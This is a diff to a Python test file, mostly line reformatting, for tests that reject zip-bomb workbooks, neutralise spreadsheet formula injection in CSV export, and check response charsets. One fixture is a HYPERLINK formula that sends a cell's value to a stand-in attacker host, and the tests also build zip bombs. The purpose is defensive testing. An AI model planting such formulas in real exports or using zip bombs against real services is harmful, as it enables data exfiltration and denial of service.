@@ -142,7 +142,9 @@ def zip_bomb(expanded_mb: int) -> bytes:
     ("expanded_mb", "message"),
     [(150, "unpacks to 150 MB, more than the 100 MB"), (3, "unpacks 1,0")],
 )
-def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(client, db, org, tmp_path, expanded_mb, message):
+def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(
+    client, db, org, tmp_path, expanded_mb, message
+):
     bomb = zip_bomb(expanded_mb)
     assert len(bomb) < 200_000
     with db.session() as session:
@@ -184,7 +186,7 @@ def test_spreadsheet_cells_are_neutralised_and_numbers_stay_numbers():
     write_csv(out, [("name", "n"), ('=HYPERLINK("http://evil.example/?x="&A2,"x")', -3), ("@SUM(A1)", 2.5)])
     out.seek(0)
     rows = list(csv.reader(out))
-    assert rows[1] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A2,\"x\")", "-3"]
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?x="&A2,"x")', "-3"]
     assert rows[2] == ["'@SUM(A1)", "2.5"]
     for start in ("=", "+", "-", "@", "\t", "\r"):
         assert spreadsheet_cell(f"{start}cmd") == f"'{start}cmd"
@@ -205,4 +207,7 @@ def test_text_responses_carry_one_charset(client, db, people):
     }
     for what, answer in answers.items():
         assert answer.status_code in (200, 201), what
-        assert answer.headers["content-type"].lower().count("charset") == 1, (what, answer.headers["content-type"])
+        assert answer.headers["content-type"].lower().count("charset") == 1, (
+            what,
+            answer.headers["content-type"],
+        )
